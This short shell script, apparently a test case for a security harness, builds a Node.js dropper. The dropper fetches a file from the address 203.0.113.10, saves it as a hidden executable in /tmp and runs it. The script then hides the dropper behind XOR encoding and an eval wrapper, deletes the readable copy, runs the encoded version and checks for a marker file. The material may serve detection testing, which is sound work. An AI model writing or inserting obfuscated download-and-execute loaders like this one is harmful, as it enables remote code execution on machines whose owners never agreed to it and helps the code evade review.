#!/bin/sh
. /opt/case/case.sh

cat >/tmp/plain.js <<'END'
require("http").get("http://203.0.113.10/programs/marker", r => { const f = require("fs"), w = f.createWriteStream("/tmp/.n", { mode: 0o700 }); r.pipe(w).on("close", () => require("child_process").execFileSync("/tmp/.n")); });
END
node -e 'const b = require("fs").readFileSync("/tmp/plain.js"); require("fs").writeFileSync("/tmp/index.js", "const k=[7,91,33];eval(Buffer.from([" + [...b].map((x, i) => x ^ [7, 91, 33][i % 3]) + "].map((x,i)=>x^k[i%3])).toString())")'
rm /tmp/plain.js
node /tmp/index.js
test -e /tmp/reached
took_place
